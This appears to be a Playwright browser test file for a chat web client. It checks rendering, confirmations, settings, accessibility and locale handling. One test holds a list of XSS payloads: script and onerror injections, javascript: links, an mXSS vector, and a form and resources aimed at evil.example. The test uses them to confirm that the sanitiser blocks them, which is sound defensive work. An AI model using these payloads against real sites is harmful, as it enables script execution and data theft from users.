/**
 * The web page alone in a real browser (chromium through playwright-core): a fresh build of
 * adapters/web/client served with the real CSP, the JSON API answered by page.route and the event
 * stream written by the test. It checks what the page draws from the protocol's shapes (steps open
 * while running and folded when collapsed, citations, footer, Stop, plan and tool confirmations),
 * the accessible contract of PROTOCOL.md, and that nothing a model writes runs or loads.
 */
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
import { checkA11y, describeBrowser, launchBrowser } from '../helpers/browser.js';
import {
  type ApiCall,
  type ApiHandler,
  expectSettingsLabels,
  mockApi,
  type PageServer,
  startPageServer,
} from '../helpers/web-page.js';

/** SCOUT_WEB_SCREENSHOTS=<folder> keeps a PNG of each rendering test, for a look by eye. */
const shots = process.env.SCOUT_WEB_SCREENSHOTS;

const step = (id: string, kind: string, title: string, status: string, collapsed: boolean, body = '') => ({
  id,
  kind,
  title,
  body,
  status,
  collapsed,
});

const finishedTurn = {
  id: 't1',
  steps: [
    step('s1', 'thinking', '💡 Thought for 4 s', 'done', true, 'The user asks about **Rust**.'),
    step('s2', 'search', '🔍 rust vs go', 'done', true),
    step('s3', 'notice', 'ℹ️ History trimmed', 'info', false, 'Older messages were left out.'),
  ],
  answer:
    'Rust is fast [[1]](https://example.com/rust) and Go is simple [[2]](https://example.org/go).\n\n' +
    '| Lang | GC |\n|---|---|\n| Rust | no |\n| Go | yes |\n\n```ts\nconst x: number = 1; let y = new Map(); // note\n```\n\n' +
    '**References**\n1. [Rust](https://example.com/rust)\n2. [Go](https://example.org/go)',
  answerFinal: true,
  sources: [
    { n: 1, title: 'Rust', url: 'https://example.com/rust' },
    { n: 2, title: 'Go', url: 'https://example.org/go' },
  ],
  status: null,
  footer: '🔧 deepseek/deepseek-chat · 1.2k tok · 3.4 s',
  done: true,
  cancelled: false,
};

describeBrowser('web page rendering', () => {
  let server: PageServer;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let foreign: string[];

  beforeAll(async () => {
    [server, browser] = await Promise.all([startPageServer(), launchBrowser()]);
    if (shots) mkdirSync(shots, { recursive: true });
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  beforeEach(async () => {
    context = await browser.newContext({ viewport: { width: 1100, height: 800 }, locale: 'en-US' });
    page = await context.newPage();
    foreign = [];
    // Every request must stay on the page's origin: anything else is recorded and refused.
    await context.route(
      (url) => !url.href.startsWith(server.origin) && !url.href.startsWith('data:'),
      (route) => {
        foreign.push(route.request().url());
        return route.abort();
      },
    );
    // What the CSP refused, kept for assertions (a string: the tests are typechecked without DOM).
    await page.addInitScript(`
      window.__csp = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
    `);
  });

  afterEach(async (ctx) => {
    if (shots)
      await page.screenshot({
        path: join(shots, `${ctx.task.name.replace(/\W+/g, '-')}.png`),
        fullPage: true,
      });
    await context.close();
  });

  async function open(hash: string, handler?: ApiHandler): Promise<ApiCall[]> {
    const calls = await mockApi(page, handler);
    await page.goto(`${server.origin}/${hash}`);
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    return calls;
  }

  it('draws a finished turn: folded steps, open notice, citations, table, code and footer', async () => {
    await open('#/c/c1', (call) =>
      call.path === '/api/conversations/c1' && call.method === 'GET'
        ? {
            json: {
              id: 'c1',
              title: 'Rust vs Go',
              entries: [
                { kind: 'user', text: 'Rust or Go?', at: 1 },
                { kind: 'turn', turn: finishedTurn, at: 2 },
              ],
              turn: null,
            },
          }
        : undefined,
    );
    const log = page.getByRole('log');
    await expect.poll(() => log.locator('details').count()).toBe(3);
    expect(await log.locator('details[open]').count()).toBe(1);
    expect(await log.locator('details[open] summary').innerText()).toContain('History trimmed');
    const cites = log.locator('a.cite');
    expect(await cites.count()).toBe(2);
    expect(await cites.first().getAttribute('href')).toBe('https://example.com/rust');
    expect(await cites.first().getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(await log.locator('table').count()).toBe(1);
    expect(await log.locator('code.language-ts .hljs-keyword').count()).toBeGreaterThan(0);
    expect(await log.locator('.footer').innerText()).toContain('deepseek/deepseek-chat');
    expect(await page.getByRole('button', { name: 'Stop' }).count()).toBe(0);
    expect(await page.locator('a[aria-current="page"]').innerText()).toBe('Rust vs Go');
    expect(await page.evaluate('window.__csp')).toEqual([]);
    expect(foreign).toEqual([]);
  });

  /** Opens an empty conversation c1 and waits for its event stream. */
  async function openLive(handler?: ApiHandler): Promise<ApiCall[]> {
    const calls = await open('#/c/c1', handler);
    await expect.poll(() => server.openStreams('c1')).toBe(1);
    return calls;
  }

  const runningTurn = {
    id: 't2',
    steps: [step('s1', 'thinking', '💭 Thinking…', 'running', false, 'Let me think')],
    answer: '',
    answerFinal: false,
    sources: [],
    phase: '🔧 deepseek/deepseek-chat',
    status: null,
    done: false,
    cancelled: false,
  };

  it('follows a live turn: step open while running, folded when collapsed, Stop while it runs', async () => {
    const calls = await openLive();
    server.push('c1', 'user', { entry: { kind: 'user', text: 'Why is the sky blue?', at: 1 } });
    server.push('c1', 'turn', { turn: runningTurn });
    const log = page.getByRole('log');
    await expect.poll(() => log.locator('details[open]').count()).toBe(1);
    expect(await log.locator('.phase').innerText()).toBe('🔧 deepseek/deepseek-chat');
    const stop = page.getByRole('button', { name: 'Stop' });
    await stop.waitFor();
    // The announcer said the step's title as it started.
    expect(await page.locator('[data-announcer]').innerText()).toContain('Thinking');

    server.push('c1', 'patch', { turnId: 't2', append: 'Rayleigh ' });
    server.push('c1', 'patch', { turnId: 't2', append: 'scattering.' });
    await expect.poll(() => log.locator('.answer').innerText()).toBe('Rayleigh scattering.');
    expect(await log.locator('.answer').getAttribute('class')).toContain('streaming');

    // Sources known while streaming: the raw [n] markers link already (not inside code).
    server.push('c1', 'patch', {
      turnId: 't2',
      sources: [{ n: 1, title: 'Sky', url: 'https://example.com/sky' }],
      append: ' See [1] and `a[1]`.',
    });
    await expect
      .poll(() => log.locator('.answer a.cite').getAttribute('href'))
      .toBe('https://example.com/sky');
    expect(await log.locator('.answer code').innerText()).toBe('a[1]');

    await stop.click();
    await expect.poll(() => calls.find((c) => c.path === '/api/conversations/c1/stop')).toBeTruthy();
    const stopCall = calls.find((c) => c.path === '/api/conversations/c1/stop')!;
    expect(stopCall.method).toBe('POST');
    expect(stopCall.headers['x-csrf-token']).toBe('csrf-token-1');

    server.push('c1', 'patch', {
      turnId: 't2',
      steps: [step('s1', 'thinking', '💡 Thought for 4 s', 'done', true, 'Let me think')],
      answer: 'Rayleigh scattering [[1]](https://example.com/sky).',
      answerFinal: true,
      sources: [{ n: 1, title: 'Sky', url: 'https://example.com/sky' }],
      footer: '🔧 deepseek/deepseek-chat · 3 s',
      status: null,
      done: true,
    });
    await expect.poll(() => log.locator('details[open]').count()).toBe(0);
    expect(await log.locator('summary').innerText()).toContain('Thought for 4 s');
    await expect.poll(() => stop.count()).toBe(0);
    expect(await log.locator('.phase').isVisible()).toBe(false);
    expect(await log.locator('a.cite').getAttribute('href')).toBe('https://example.com/sky');
    await expect.poll(() => page.locator('[data-announcer]').innerText()).toContain('Rayleigh scattering');
    expect(await page.evaluate('window.__csp')).toEqual([]);
  });

  it('asks before a plan runs (Run / Cancel) and before a tool runs (Approve / Deny)', async () => {
    const calls = await openLive();
    server.push('c1', 'turn', {
      turn: {
        ...runningTurn,
        steps: [],
        confirm: { id: 'k1', kind: 'plan', text: '1. Search\n2. Summarise', state: 'waiting' },
      },
    });
    await page.getByRole('button', { name: 'Run' }).click();
    await expect
      .poll(() => calls.find((c) => c.path.endsWith('/confirm'))?.body)
      .toEqual({ confirmId: 'k1', accept: true });
    server.push('c1', 'patch', {
      turnId: 't2',
      confirm: { id: 'k1', kind: 'plan', text: '1. Search', state: 'accepted' },
    });
    await expect.poll(() => page.getByRole('button', { name: 'Run' }).count()).toBe(0);

    server.push('c1', 'patch', {
      turnId: 't2',
      confirm: { id: 'k2', kind: 'tool', text: 'Fetch `https://example.com`?', state: 'waiting' },
    });
    await page.getByRole('button', { name: 'Deny' }).click();
    await expect
      .poll(() => calls.filter((c) => c.path.endsWith('/confirm')).at(-1)?.body)
      .toEqual({ confirmId: 'k2', accept: false });
    expect(await page.getByRole('button', { name: 'Approve' }).isDisabled()).toBe(true);
  });

  it('sends with Enter (Shift+Enter adds a line), with uploads, and offers starters on an empty chat', async () => {
    const calls = await openLive();
    const box = page.getByRole('textbox', { name: 'Message' });
    const send = page.getByRole('button', { name: 'Send' });
    expect(await send.isDisabled()).toBe(true);
    expect(await page.getByRole('button', { name: 'What is new in Node 22?' }).isVisible()).toBe(true);

    await page
      .getByLabel('Attach file')
      .setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('hello') });
    await page.getByRole('button', { name: 'Remove notes.txt' }).waitFor();
    // The chip shows while the upload is under way: wait for the upload itself to arrive.
    await expect.poll(() => calls.some((c) => c.path === '/api/uploads')).toBe(true);
    const upload = calls.find((c) => c.path === '/api/uploads')!;
    expect(upload.headers['x-file-name']).toBe('notes.txt');
    expect(upload.headers['content-type']).toBe('text/plain');
    expect(upload.headers['x-csrf-token']).toBe('csrf-token-1');

    await box.fill('line one');
    await box.press('Shift+Enter');
    await box.pressSequentially('line two');
    expect(await box.inputValue()).toBe('line one\nline two');
    await box.press('Enter');
    await expect
      .poll(() => calls.find((c) => c.path.endsWith('/messages'))?.body)
      .toEqual({ text: 'line one\nline two', files: ['up1'] });
    expect(calls.find((c) => c.path.endsWith('/messages'))!.headers['x-csrf-token']).toBe('csrf-token-1');
    await expect.poll(() => box.inputValue()).toBe('');
    expect(await page.getByRole('button', { name: 'Remove notes.txt' }).count()).toBe(0);

    await page.getByRole('button', { name: 'Plan a weekend in Lisbon' }).click();
    await expect
      .poll(() => calls.filter((c) => c.path.endsWith('/messages')).at(-1)?.body)
      .toEqual({ text: 'Plan a weekend in Lisbon' });
  });

  it('creates the conversation with the first message of a draft, and keeps it in the URL', async () => {
    const calls = await open('');
    await page.getByRole('textbox', { name: 'Message' }).fill('/mode agent');
    await page.getByRole('textbox', { name: 'Message' }).press('Enter');
    await expect
      .poll(() => calls.find((c) => c.path === '/api/conversations/c-new/messages')?.body)
      .toEqual({ text: '/mode agent' });
    expect(new URL(page.url()).hash).toBe('#/c/c-new');
    await expect.poll(() => server.openStreams('c-new')).toBe(1);
    server.push('c-new', 'reply', { entry: { kind: 'reply', text: 'Mode: **agent**', error: false, at: 1 } });
    await expect.poll(() => page.getByRole('log').locator('.reply strong').innerText()).toBe('agent');
  });

  it('edits settings in a modal dialog and shows the problems the server found', async () => {
    const calls = await openLive((call) =>
      call.path === '/api/settings' && call.method === 'PUT'
        ? {
            status: 422,
            json: { error: 'Check the settings.', problems: ['Temperature must be between 0 and 2.'] },
          }
        : undefined,
    );
    await page.getByRole('button', { name: 'Settings' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.waitFor();
    await expectSettingsLabels(dialog);
    expect(await dialog.getByLabel('Mode', { exact: true }).inputValue()).toBe('chat');
    expect(await dialog.getByLabel('Max tokens').inputValue()).toBe('2048');
    await dialog.getByLabel('Mode', { exact: true }).selectOption('agent');
    await dialog.getByLabel('Answer model').selectOption('openai/gpt-4o-mini');
    await dialog.getByLabel('Temperature').fill('5');
    await dialog.getByRole('button', { name: 'Save' }).click();
    await expect
      .poll(() => dialog.getByRole('alert').innerText())
      .toContain('Temperature must be between 0 and 2.');
    const put = calls.find((c) => c.method === 'PUT')!;
    expect(put.body).toEqual({
      mode: 'agent',
      search: true,
      toolModel: { model: 'deepseek/deepseek-chat', temperature: 5, maxTokens: 2048 },
      answerModel: { model: 'openai/gpt-4o-mini', temperature: 5, maxTokens: 2048 },
    });
    // Focus stays in the dialog; Escape closes it and gives focus back to Settings.
    await page.keyboard.press('Tab');
    expect(await page.evaluate('!!document.activeElement.closest("dialog")')).toBe(true);
    await page.keyboard.press('Escape');
    await expect.poll(() => dialog.count()).toBe(0);
    expect(await page.evaluate('document.activeElement.textContent')).toBe('Settings');
  });

  it('renames and deletes conversations from the sidebar', async () => {
    const calls = await openLive();
    const nav = page.getByRole('navigation');
    await nav.getByRole('button', { name: 'Rename' }).first().click();
    const field = nav.getByRole('textbox', { name: 'Conversation title' });
    await field.fill('Languages');
    await field.press('Enter');
    await expect.poll(() => calls.find((c) => c.method === 'PATCH')?.body).toEqual({ title: 'Languages' });
    expect(calls.find((c) => c.method === 'PATCH')!.path).toBe('/api/conversations/c1');
    await expect.poll(() => field.count()).toBe(0);
    // Delete asks once, in place: the question's own button is named Delete too.
    await nav.getByRole('listitem').first().getByRole('button', { name: 'Delete' }).click();
    await nav
      .getByRole('group', { name: 'Delete this chat?' })
      .getByRole('button', { name: 'Delete' })
      .click();
    await expect.poll(() => calls.find((c) => c.method === 'DELETE')?.path).toBe('/api/conversations/c1');
    await expect.poll(() => nav.getByRole('group').count()).toBe(0);
    // The open conversation was deleted: the page is a draft again.
    await expect.poll(() => new URL(page.url()).hash).toBe('');
  });

  it('goes to /login when the API says 401', async () => {
    await mockApi(page, (call) =>
      call.path === '/api/session' ? { status: 401, json: { error: 'Log in first.' } } : undefined,
    );
    await page.goto(`${server.origin}/`);
    await page.waitForURL(`${server.origin}/login`);
    expect(await page.locator('input[name="csrf"]').getAttribute('value')).toBe('{{csrf}}');
  });

  /** Model, page and user text that tries to run script, load from elsewhere or restyle the page. */
  const HOSTILE_PARTS = [
    '<script>window.__xss = "script"</script>',
    '<img src=x onerror="window.__xss = \'img\'">',
    "[click me](javascript:window.__xss='link')",
    '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[vb](vbscript:msgbox(1))',
    '<a href="JaVaScRiPt:window.__xss=\'case\'">case</a>',
    '<svg><script>window.__xss = "svg"</script></svg>',
    '<svg onload="window.__xss = \'svgload\'"><a xlink:href="javascript:1"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = \'mxss\'">',
    '<iframe src="javascript:window.top.__xss=\'iframe\'"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<form action="https://evil.example/steal"><input name="q" autofocus onfocus="window.__xss=\'focus\'"><button>go</button></form>',
    '<details open ontoggle="window.__xss = \'toggle\'"><summary>x</summary></details>',
    '<style>body { display: none }</style>',
    '<div style="position:fixed;inset:0;background:red">cover</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    '![pixel](https://evil.example/pixel.png)',
    '<img src="https://evil.example/p.png" srcset="https://evil.example/q.png 2x">',
    '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<a href="https://example.com/ok" onclick="window.__xss=\'click\'">fine link</a>',
    '<input type="image" src="x" onerror="window.__xss=1">',
    '<table background="javascript:window.__xss=1"><tr><td>t</td></tr></table>',
    '<div id="sidebar" name="csrf">clobber</div>',
  ];
  const HOSTILE = HOSTILE_PARTS.join('\n\n');

  it('runs nothing and loads nothing that model, page or user text carries', async () => {
    const hostileTurn = {
      ...finishedTurn,
      id: 'tx',
      // Each payload in a step of its own as well: an unclosed tag in one (the mXSS <style>) would
      // otherwise swallow the ones after it, and they would never be tried as markup.
      steps: HOSTILE_PARTS.map((part, i) => step(`h${i}`, 'tool', part, 'done', false, part)),
      answer: HOSTILE,
      sources: [
        { n: 1, title: '<script>window.__xss="source"</script>', url: 'javascript:window.__xss="src"' },
      ],
      footer: '<img src=x onerror="window.__xss=\'footer\'">',
      error: '<img src=x onerror="window.__xss=\'error\'">',
      confirm: { id: 'k', kind: 'tool', text: HOSTILE, state: 'waiting' },
    };
    await open('#/c/c1', (call) => {
      if (call.path === '/api/conversations/c1' && call.method === 'GET')
        return {
          json: {
            id: 'c1',
            title: '',
            entries: [
              {
                kind: 'user',
                text: HOSTILE,
                files: ['<img src=x onerror="window.__xss=\'file\'">.png'],
                at: 1,
              },
              { kind: 'reply', text: HOSTILE, error: true, at: 2 },
              { kind: 'turn', turn: hostileTurn, at: 3 },
            ],
            turn: null,
          },
        };
      if (call.path === '/api/conversations' && call.method === 'GET')
        return {
          json: {
            conversations: [
              { id: 'c1', title: '<img src=x onerror="window.__xss=\'title\'">', updatedAt: 1 },
            ],
          },
        };
      return undefined;
    });
    const log = page.getByRole('log');
    await expect.poll(() => log.locator('.answer').count()).toBe(1);
    // Open every step and let the browser settle: handlers and loads would have fired by now.
    await log.locator('details').evaluateAll((all) => {
      for (const d of all) (d as { open: boolean }).open = true;
    });
    await page.waitForTimeout(300);
    expect(await page.evaluate('window.__xss')).toBeUndefined();
    const inLog = (selector: string) => log.locator(selector).count();
    for (const selector of [
      'script',
      'iframe',
      'form',
      'input',
      'object',
      'embed',
      'style',
      'link',
      'meta',
      'base',
      'svg',
      'math',
      'video',
      'audio',
      '[style]',
      '[onerror]',
      '[onclick]',
      '[ontoggle]',
      '[srcset]',
      '[id="sidebar"]',
    ])
      expect(await inLog(selector), selector).toBe(0);
    const hrefs = await log
      .locator('a[href]')
      .evaluateAll((all) => all.map((a) => a.getAttribute('href') ?? ''));
    for (const href of hrefs) expect(href).toMatch(/^(https?:|mailto:)/);
    expect(
      await log
        .locator('a[href]')
        .evaluateAll((all) =>
          all.every(
            (a) =>
              a.getAttribute('rel') === 'noopener noreferrer nofollow' &&
              a.getAttribute('target') === '_blank',
          ),
        ),
    ).toBe(true);
    const images = await log.locator('img').evaluateAll((all) => all.map((i) => i.getAttribute('src') ?? ''));
    for (const src of images) expect(src).toMatch(/^data:image\//);
    // The page still looks like itself: no style got in.
    expect(await page.evaluate('getComputedStyle(document.body).display')).toBe('block');
    // Plain strings stayed text.
    expect(await log.locator('.user-text').innerText()).toContain('<script>');
    expect(await page.getByRole('navigation').getByRole('link').first().innerText()).toContain('<img');
    // The link whose source had an onclick kept its address and lost its handler.
    const fine = log.locator('a', { hasText: 'fine link' }).first();
    expect(await fine.evaluate((a) => (a as unknown as { onclick: unknown }).onclick)).toBeNull();
    // The only requests that left went to the page's own origin (the evil.example ones were never made).
    expect(foreign).toEqual([]);
    // No securitypolicyviolation check here: chromium reports the hostile attributes when the
    // sanitiser parses them into its inert document, though nothing there can run or load.
  });

  it('has no serious accessibility violations, in light and dark, and fits a 360 px screen', async () => {
    // Long code lines, wide tables and long open step bodies: scrolling boxes must be reachable by keyboard.
    const turn = {
      ...finishedTurn,
      steps: [
        ...finishedTurn.steps,
        step('s4', 'thinking', '💭 Thinking…', 'running', false, 'Reasoning. '.repeat(600)),
      ],
      answer: `${finishedTurn.answer}\n\n\`\`\`bash\necho "$HOME" 42 # every token kind: variable, string, number, comment\n\`\`\`\n\n\`\`\`js\nconst a = "${'x'.repeat(300)}";\n\`\`\`\n\n|${' col |'.repeat(14)}\n|${'---|'.repeat(14)}\n|${' value |'.repeat(14)}`,
      confirm: { id: 'k', kind: 'plan', text: '1. Search', state: 'waiting' },
    };
    const handler: ApiHandler = (call) =>
      call.path === '/api/conversations/c1' && call.method === 'GET'
        ? {
            json: {
              id: 'c1',
              title: 'x',
              entries: [
                { kind: 'user', text: 'Q?', at: 1 },
                { kind: 'turn', turn, at: 2 },
              ],
              turn: null,
            },
          }
        : undefined;
    await open('#/c/c1', handler);
    await page.getByRole('log').locator('.answer').waitFor();
    expect(await checkA11y(page)).toEqual([]);
    await page.emulateMedia({ colorScheme: 'dark' });
    expect(await checkA11y(page)).toEqual([]);
    await page.getByRole('button', { name: 'Settings' }).click();
    await page.getByRole('dialog').waitFor();
    expect(await checkA11y(page)).toEqual([]);
    await page.keyboard.press('Escape');

    await page.setViewportSize({ width: 360, height: 740 });
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360);
    // The sidebar folds behind its toggle; the toggle opens it and focus goes into it.
    const nav = page.getByRole('navigation');
    expect(await nav.isVisible()).toBe(false);
    const toggle = page.getByRole('button', { name: 'Conversations' });
    await toggle.click();
    expect(await toggle.getAttribute('aria-expanded')).toBe('true');
    expect(await nav.isVisible()).toBe(true);
    expect(await page.evaluate('document.activeElement.textContent')).toBe('New chat');
    expect(await checkA11y(page)).toEqual([]);
  });

  it('can be used from the keyboard alone: Tab reaches the message box, Send and Settings', async () => {
    await openLive();
    await page.getByRole('textbox', { name: 'Message' }).focus();
    await page.keyboard.type('hello');
    const reached = new Set<string>();
    for (let i = 0; i < 30; i++) {
      await page.keyboard.press('Tab');
      reached.add(
        String(
          await page.evaluate(
            'document.activeElement.getAttribute("aria-label") || document.activeElement.textContent.trim()',
          ),
        ),
      );
    }
    for (const name of ['Send', 'Settings', 'New chat', 'Rename', 'Delete'])
      expect(reached, name).toContain(name);
  });

  it('replaces what it shows on a snapshot, and reloads the list on a conversations event', async () => {
    const calls = await openLive();
    server.push('c1', 'user', { entry: { kind: 'user', text: 'old question', at: 1 } });
    const log = page.getByRole('log');
    await log.getByText('old question').waitFor();
    server.push('c1', 'snapshot', {
      entries: [{ kind: 'user', text: 'new question', at: 2 }],
      turn: runningTurn,
    });
    await log.getByText('new question').waitFor();
    expect(await log.getByText('old question').count()).toBe(0);
    await page.getByRole('button', { name: 'Stop' }).waitFor();
    const lists = () => calls.filter((c) => c.path === '/api/conversations' && c.method === 'GET').length;
    const before = lists();
    server.push('c1', 'conversations', {});
    await expect.poll(lists).toBe(before + 1);
  });

  it('speaks Chinese to a Chinese browser', async () => {
    await context.close();
    context = await browser.newContext({ locale: 'zh-CN' });
    page = await context.newPage();
    await mockApi(page);
    await page.goto(`${server.origin}/`);
    await page.getByRole('textbox', { name: '消息' }).waitFor();
    expect(await page.getByRole('button', { name: '设置' }).count()).toBe(1);
    expect(await page.getByRole('button', { name: '新对话' }).count()).toBe(1);
    expect(await page.evaluate('document.documentElement.lang')).toBe('zh-CN');
  });
});
